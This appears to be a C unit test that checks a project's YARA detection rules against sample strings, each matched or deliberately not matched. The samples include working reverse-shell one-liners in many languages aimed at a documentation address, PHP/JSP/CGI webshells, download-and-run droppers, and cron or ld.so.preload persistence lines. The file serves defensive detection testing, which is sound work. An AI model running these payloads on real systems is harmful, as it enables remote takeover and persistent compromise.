/*
 * Our own rules (conf/yara): what each finds, and what looks alike and is none. All written for the
 * tests: the addresses lead nowhere, and nothing here is ever run.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "classify/yara.h"
#include "policy/rule_files.h"

#define RULES_OF_OURS 15 /* without the private ones */
#define WALLET "44" A31 A31 A31 /* 95 characters */
#define A31 "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
#define BASE64_ELF                                                                                 \
	"f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAeABAAAAAAABAAAAAAAAAAAAAAAAAAAAAAAAAAEAAOAABAAAAAAAAAAEA" \
	"AAAFAAAAAAAAAAAAAAA="

struct row {
	const char *rule; /* NULL = none matches */
	const char *text;
};

static const struct row rows[] = {
	{"EICAR_Test_File",
		"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"},
	{NULL, "it is: X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"},

	{"Miner_Program",
		"\177ELF stratum+tcp:// stratum+ssl:// randomx donate-level xmrig rig-id"},
	{NULL, "\177ELF a library that knows randomx and cryptonight by name"},
	{"Miner_Started_By_Script",
		"#!/bin/sh\nnohup ./xmrig -o stratum+tcp://pool.example.test:3333 -u x &\n"},
	{"Miner_Started_By_Script", "import subprocess\nsubprocess.Popen(['./a', '--url', "
				    "'pool.supportxmr.com:443', '-u', "
				    "'" WALLET "'])\n"},
	{NULL, "#!/bin/sh\n# blocks stratum+tcp://pool.example.test\niptables -A OUTPUT -p tcp "
	       "--dport 3333 -j DROP\n"},
	{NULL, "#!/bin/sh\n# kill miners\npkill -f xmrig\npkill -f minerd\nchmod 644 /etc/hosts\n"},

	{"Reverse_Shell_Shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"},
	{"Reverse_Shell_Shell", "sh -i 5<> /dev/tcp/192.0.2.1/4444 0<&5 1>&5 2>&5\n"},
	{"Reverse_Shell_Shell", "exec 196<>/dev/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196\n"},
	{"Reverse_Shell_Shell",
		"exec 5<>/dev/tcp/192.0.2.1/4444;cat <&5 | while read l; do $l 2>&5 "
		">&5; done\n"},
	{"Reverse_Shell_Shell", "nc -e /bin/sh 192.0.2.1 4444\n"},
	{"Reverse_Shell_Shell", "ncat 192.0.2.1 4444 -e /bin/bash\n"},
	{"Reverse_Shell_Shell", "busybox nc 192.0.2.1 4444 -e sh\n"},
	{"Reverse_Shell_Shell", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | "
				"nc 192.0.2.1 4444 > /tmp/f\n"},
	{"Reverse_Shell_Shell",
		"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1; sh -i 2>&1 | openssl s_client "
		"-quiet -connect 192.0.2.1:4444 > /tmp/s\n"},
	{"Reverse_Shell_Shell", "telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445\n"},
	{"Reverse_Shell_Shell", "socat TCP:192.0.2.1:4444 EXEC:'bash -li',pty,stderr,setsid\n"},
	{"Reverse_Shell_Shell", "xterm -display 192.0.2.1:1\n"},
	{NULL, "#!/bin/bash\n# is the port open?\nif exec 3<>/dev/tcp/localhost/8080; then "
	       "echo up; "
	       "fi\nexec 3>&-\n"},
	{NULL, "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.example.test/5432' && echo "
	       "ready\n"},
	{NULL, "mkfifo /tmp/log; cat /tmp/log | tee out.txt &\nnc -z localhost 80\n"},
	{NULL, "socat TCP-LISTEN:80,fork TCP:backend.example.test:8080\n"},

	{"Reverse_Shell_Python",
		"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
		"s.connect((\"192.0.2.1\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
		"os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])"},
	{"Reverse_Shell_Python",
		"import os,pty,socket\ns=socket.socket()\ns.connect(('192.0.2.1',4444))\n"
		"[os.dup2(s.fileno(),f)for f in(0,1,2)]\nfor fd in (0, 1, "
		"2):\n os.dup2(s.fileno(), "
		"fd)\npty.spawn('/bin/sh')\n"},
	{"Reverse_Shell_Python",
		"s = socket.socket()\ns.connect((host, port))\nwhile True:\n cmd = s.recv(1024)."
		"decode()\n out = subprocess.Popen(cmd, shell=True, stdout=-1)\n"},
	{NULL, "import socket\ns = socket.socket()\ns.connect(('www.example.test', 80))\n"
	       "s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(4096))\n"},
	{NULL, "import os\n# a daemon's descriptors\nos.dup2(devnull, 0)\nos.dup2(devnull, 1)\n"
	       "os.dup2(devnull, 2)\n"},

	{"Reverse_Shell_Perl",
		"use Socket;$i='192.0.2.1';$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname('"
		"tcp'))"
		";if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,'>&S');open(STDOUT,'>"
		"&S');"
		"exec('/bin/sh -i');};"},
	{"Reverse_Shell_Perl",
		"use IO::Socket::INET;$c=new IO::Socket::INET(PeerAddr=>'192.0.2.1:4444');"
		"STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"},
	{NULL, "use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "
	       "'www.example.test', "
	       "PeerPort => 80);\nprint $s \"GET /\\r\\n\";\n"},

	{"Reverse_Shell_Other",
		"<?php $sock=fsockopen('192.0.2.1',4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>"},
	{"Reverse_Shell_Other", "require 'socket';f=TCPSocket.open(\"192.0.2.1\",4444).to_i;"
				"exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"},
	{"Reverse_Shell_Other",
		"var net = require(\"net\"), sh = require('child_process').spawn(\"/bin/sh\", []);"
		"var c = new net.Socket();c.connect(4444, '192.0.2.1', "
		"function(){c.pipe(sh.stdin);})"},
	{"Reverse_Shell_Other",
		"local s=require('socket');local t=assert(s.tcp());t:connect('192.0.2.1',4444);"
		"while true do local r,x=t:receive();local f=io.popen(r, 'r') end"},
	{"Reverse_Shell_Other",
		"awk 'BEGIN{s=\"/inet/tcp/0/192.0.2.1/4444\";while(1){do{s|&getline c;"
		"while((c|&getline)>0)print $0|&s}while(1)}}'"},
	{"Reverse_Shell_Other", "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\","
				"\"exec 5<>/dev/tcp/192.0.2.1/4444\"})"},
	{NULL, "<?php $s = fsockopen('www.example.test', 80); fwrite($s, \"GET /\\r\\n\"); ?>"},
	{NULL, "const net = require('net');\nconst c = new net.Socket();\nc.connect(6379);\n"},
	{NULL, "awk -F: '{print $1}' /etc/passwd | while read u; do id $u; done\n"},

	{"Webshell_PHP", "<?php @eval($_POST['x']); ?>"},
	{"Webshell_PHP", "<?php system($_GET[\"cmd\"]);"},
	{"Webshell_PHP", "<?=`$_GET[0]`?>"},
	{"Webshell_PHP", "<?php $_GET['a']($_POST['b']); ?>"},
	{"Webshell_PHP", "<?php eval(gzinflate(base64_decode('AAAA'))); ?>"},
	{NULL, "<?php echo htmlspecialchars($_POST['name']); $x = base64_decode($data); ?>"},
	{NULL, "<?php exec('git rev-parse HEAD', $out); include 'header.php'; ?>"},
	{"Webshell_JSP", "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"},
	{"Webshell_JSP", "<% byte[] b = Base64.getDecoder().decode(request.getParameter(\"p\"));"
			 " new U().defineClass(\"x\", b); %>"},
	{NULL, "<% String name = request.getParameter(\"name\"); out.print(name); %>"},
	{"Webshell_CGI", "#!/bin/sh\necho; eval \"$QUERY_STRING\"\n"},
	{"Webshell_CGI", "#!/usr/bin/perl\nuse CGI;my $q=CGI->new;print system($q->param('c'));\n"},
	{"Webshell_CGI",
		"@app.route('/')\ndef x(): return os.popen(request.args.get('c')).read()\n"},
	{NULL, "#!/bin/sh\necho 'Content-Type: text/plain'; echo\necho \"query: $QUERY_STRING\"\n"},

	{"Dropper_Many_Machines",
		"cd /tmp || cd /var/run\nwget http://192.0.2.1/b.mips; chmod 777 b.mips; "
		"./b.mips; rm -rf "
		"b.mips\nwget http://192.0.2.1/b.arm7; chmod 777 b.arm7; ./b.arm7; rm -rf b.arm7\n"
		"wget http://192.0.2.1/b.sh4; chmod 777 b.sh4; ./b.sh4; rm -rf b.sh4\n"},
	{NULL, "#!/bin/sh\nset -e\ncase $(uname -m) in x86_64) a=x86_64;; armv7l) a=armv7;; esac\n"
	       "curl -fsSLo /tmp/tool https://example.test/tool-$a\ninstall -m 755 /tmp/tool "
	       "/usr/local/bin\n"},
	{"Dropper_Encoded_Program",
		"echo " BASE64_ELF " | base64 -d > /tmp/x; chmod +x /tmp/x; /tmp/x\n"},
	{NULL, "MAGIC = 'f0VMRgIBAQ'  # what an ELF file begins with, in base64\n"
	       "print(base64.b64decode(MAGIC))\nos.chmod(p, 0o755)\n"},
	{"Dropper_Fetch_Decode_Run", "curl -s http://192.0.2.1/x | base64 -d | bash\n"},
	{"Dropper_Fetch_Decode_Run",
		"exec(base64.b64decode(urllib.request.urlopen('http://192.0.2.1/x').read()))\n"},
	{NULL, "curl -fsSL https://example.test/install.sh | sh\n"},
	{NULL, "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d\n"},
	{"Dropper_Encoded_Code",
		"import base64,zlib\nexec(zlib.decompress(base64.b64decode(b'eJw=')))\n"},
	{"Dropper_Encoded_Code",
		"_ = lambda __ : __import__('zlib').decompress(__import__('base64')."
		"b64decode(__[::-1]));exec((_)(b'==w'))\n"},
	{"Dropper_Encoded_Code",
		"exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAA'))\n"},
	{NULL, "data = zlib.decompress(base64.b64decode(blob))\nexec(open('settings.py').read()"
	       ")\n"},
	{"Dropper_Persistence",
		"(crontab -l; echo '* * * * * curl -s http://192.0.2.1/x | sh') | crontab -\n"
		"echo '*/5 * * * * root wget -qO- http://192.0.2.1/x | bash' > /etc/cron.d/x\n"},
	{"Dropper_Persistence", "curl -o /usr/lib/x.so http://192.0.2.1/x.so\necho /usr/lib/x.so > "
				"/etc/ld.so.preload\n"},
	{NULL, "echo '0 3 * * * /usr/local/bin/backup' | crontab -\n"},
	{NULL, "echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
	       "AAAA "
	       "admin\" >> ~/.ssh/authorized_keys\n"},
};

static struct lw_yara *rules;

static int
load_rules(void **state)
{
	_cleanup_text_ struct lw_text text, errors;
	const char *source = getenv("srcdir");
	char folder[4096], detail[LW_YARA_DETAIL] = "";
	char *items[] = {folder};
	const struct lw_string_list paths = {.items = items, .count = 1};
	int r;

	snprintf(folder, sizeof(folder), "%s/conf/yara", source ? source : ".");
	lw_text_init(&text, LW_RULE_FILES_BYTES_MAX);
	lw_text_init(&errors, 4096);
	r = lw_rule_files_read(LW_RULE_FILES_YARA, &paths, &text, &errors);
	if (r == 0)
		r = lw_yara_start();
	if (r == 0)
		r = lw_yara_load(text.data, text.length, &rules, detail);
	if (r != 0)
		print_error("%s%s\n", errors.data ? errors.data : "", detail);
	return r;
}

static int
drop_rules(void **state)
{
	rules = lw_yara_free(rules);
	return 0;
}

static bool
row_is_right(const struct row *row)
{
	struct lw_yara_matches m;
	const char *found;

	lw_yara_scan(rules, row->text, strlen(row->text), 0, &m);
	found = m.count > 0 ? m.names[0] : NULL;
	if (found == row->rule || (found && row->rule && strcmp(found, row->rule) == 0))
		return true;
	print_error("%s, not %s, found in: %s\n", found ? found : "nothing",
		row->rule ? row->rule : "nothing", row->text);
	return false;
}

static void
each_rule_finds_what_it_is_for(void **state)
{
	unsigned wrong = 0;

	for (size_t i = 0; i < LW_ARRAY_SIZE(rows); i++)
		wrong += !row_is_right(&rows[i]);
	assert_int_equal(wrong, 0);
}

static void
each_rule_is_tested(void **state)
{
	const char *seen[LW_ARRAY_SIZE(rows)];
	size_t count = 0;

	for (size_t i = 0; i < LW_ARRAY_SIZE(rows); i++) {
		size_t at = 0;

		while (at < count && rows[i].rule && strcmp(seen[at], rows[i].rule) != 0)
			at++;
		if (rows[i].rule && at == count)
			seen[count++] = rows[i].rule;
	}
	assert_int_equal(count, RULES_OF_OURS);
	/* The private rule is in this count. */
	assert_int_equal(lw_yara_count(rules), RULES_OF_OURS + 1);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_rule_finds_what_it_is_for),
		cmocka_unit_test(each_rule_is_tested),
	};

	return cmocka_run_group_tests(tests, load_rules, drop_rules);
}
